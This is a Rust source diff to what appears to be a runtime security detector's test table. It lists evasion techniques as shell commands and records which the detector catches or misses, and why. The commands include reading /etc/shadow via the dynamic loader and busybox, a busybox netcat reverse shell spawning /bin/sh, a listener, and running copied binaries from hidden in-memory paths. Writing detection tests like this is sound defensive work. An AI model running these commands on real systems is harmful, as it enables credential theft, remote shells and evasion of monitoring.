@@ -1,8 +1,8 @@
 //! Where programs lie, what they are called, and how they come to run.
 
 use super::Way::Exec;
-use super::rules::{FOREIGN, HIDDEN, REVERSE, SECRET, TUNNEL};
-use super::{Technique, UNKNOWN_FORM, missed, told};
+use super::rules::{ARGUMENTS, FOREIGN, HIDDEN, LOADER, REVERSE, SECRET, TUNNEL};
+use super::{Technique, missed, told};
 
 pub(super) const TECHNIQUES: [Technique; 30] = [
     told(
@@ -17,7 +17,7 @@ pub(super) const TECHNIQUES: [Technique; 30] = [
         Exec,
         "cp /usr/bin/sort /opt-agent; /opt-agent /dev/null",
         &[FOREIGN],
-        UNKNOWN_FORM,
+        "no field tells when a file was changed",
     ),
     told(
         "in-shared-memory",
@@ -25,26 +25,25 @@ pub(super) const TECHNIQUES: [Technique; 30] = [
         "cp /usr/bin/id /dev/shm/x; /dev/shm/x",
         &[HIDDEN],
     ),
-    missed(
+    told(
         "beside-the-devices",
         Exec,
         "cp /usr/bin/id /dev/x; /dev/x",
         &[FOREIGN, HIDDEN],
-        UNKNOWN_FORM,
     ),
     missed(
         "in-memory-of-the-container",
         Exec,
         "cp /usr/bin/id /run/x; /run/x",
         &[FOREIGN, HIDDEN],
-        UNKNOWN_FORM,
+        "no field tells that a file is on a file system in memory",
     ),
     missed(
         "on-a-volume",
         Exec,
         "cp /usr/bin/id /data/x; /data/x",
         &[FOREIGN, HIDDEN],
-        UNKNOWN_FORM,
+        "no field tells that a file is on a volume",
     ),
     told("in-no-file", Exec, "odd-exec memory /usr/bin/id x", &[HIDDEN]),
     told(
@@ -60,33 +59,30 @@ pub(super) const TECHNIQUES: [Technique; 30] = [
         "cp /usr/bin/runc /tmp/runc; /tmp/runc --starts same /usr/bin/odd-exec memory /usr/bin/id runc",
         &[HIDDEN],
     ),
-    missed(
+    told(
         "by-the-loader",
         Exec,
         "cp /usr/bin/sort /dev/y; /lib64/ld-linux-x86-64.so.2 /dev/y /dev/null",
-        &[FOREIGN, HIDDEN],
-        UNKNOWN_FORM,
+        &[FOREIGN, HIDDEN, LOADER],
     ),
-    missed(
+    told(
         "a-program-of-the-image-by-the-loader",
         Exec,
         "/lib64/ld-linux-x86-64.so.2 /usr/bin/cat /etc/shadow",
-        &[SECRET],
-        UNKNOWN_FORM,
+        &[SECRET, LOADER],
     ),
     missed(
         "a-tool-as-an-interpreter",
         Exec,
         "printf '#!/usr/bin/cat\\n' >/tmp/ls; cat /etc/passwd >>/tmp/ls; chmod 755 /tmp/ls; /tmp/ls /etc/shadow",
         &[SECRET],
-        UNKNOWN_FORM,
+        "a script has the one name that it gives itself",
     ),
-    missed(
+    told(
         "a-script-called-as-a-manager",
         Exec,
         "printf '#!/bin/sh\\n/tmp/app2\\n' >/tmp/apk; chmod 755 /tmp/apk; cp /usr/bin/id /tmp/app2; /tmp/apk",
         &[FOREIGN],
-        UNKNOWN_FORM,
     ),
     told(
         "a-link-with-another-name",
@@ -100,33 +96,19 @@ pub(super) const TECHNIQUES: [Technique; 30] = [
         "bash -c 'exec -a kworker cat /etc/shadow'",
         &[SECRET],
     ),
-    missed(
-        "the-box-before-the-tool",
-        Exec,
-        "busybox cat /etc/shadow",
-        &[SECRET],
-        UNKNOWN_FORM,
-    ),
-    missed(
-        "the-box-listens",
-        Exec,
-        "busybox nc -l -p 1 -s 203.0.113.1",
-        &[TUNNEL],
-        UNKNOWN_FORM,
-    ),
-    missed(
+    told("the-box-before-the-tool", Exec, "busybox cat /etc/shadow", &[SECRET]),
+    told("the-box-listens", Exec, "busybox nc -l -p 1 -s 203.0.113.1", &[TUNNEL]),
+    told(
         "the-box-connects-a-shell",
         Exec,
         "busybox nc 127.0.0.1 9 -e /bin/sh",
         &[REVERSE],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "the-box-called-as-another",
         Exec,
         "cp /bin/busybox /tmp/busybox; /tmp/busybox cat /etc/shadow",
         &[SECRET],
-        UNKNOWN_FORM,
     ),
     told(
         "the-box-by-another-file",
@@ -134,27 +116,9 @@ pub(super) const TECHNIQUES: [Technique; 30] = [
         "cp /bin/busybox /tmp/tool; /tmp/tool nc -l -p 1 -s 203.0.113.1",
         &[TUNNEL, FOREIGN],
     ),
-    missed(
-        "a-secret-behind-a-dot",
-        Exec,
-        "cat /etc/./shadow",
-        &[SECRET],
-        UNKNOWN_FORM,
-    ),
-    missed(
-        "a-secret-behind-two-slashes",
-        Exec,
-        "cat /etc//shadow",
-        &[SECRET],
-        UNKNOWN_FORM,
-    ),
-    missed(
-        "a-secret-from-its-folder",
-        Exec,
-        "cd /etc; cat shadow",
-        &[SECRET],
-        UNKNOWN_FORM,
-    ),
+    told("a-secret-behind-a-dot", Exec, "cat /etc/./shadow", &[SECRET]),
+    told("a-secret-behind-two-slashes", Exec, "cat /etc//shadow", &[SECRET]),
+    told("a-secret-from-its-folder", Exec, "cd /etc; cat shadow", &[SECRET]),
     told(
         "a-secret-by-way-of-a-process",
         Exec,
@@ -168,18 +132,17 @@ pub(super) const TECHNIQUES: [Technique; 30] = [
         "cat '\n/etc/shadow' /etc/shadow",
         &[SECRET],
     ),
-    missed(
+    told(
         "a-secret-amid-padding",
         Exec,
         "p=$(printf '%040000d' 0); cat $p /etc/shadow $p",
-        &[SECRET],
-        UNKNOWN_FORM,
+        &[SECRET, ARGUMENTS],
     ),
     missed(
         "a-shell-of-a-hidden-root",
         Exec,
         "mkdir -p /dev/r/bin; cp /bin/busybox /dev/r/bin/nginx; busybox chroot /dev/r /bin/nginx",
         &[FOREIGN, HIDDEN],
-        UNKNOWN_FORM,
+        "no field tells that a file is on a file system in memory",
     ),
 ];
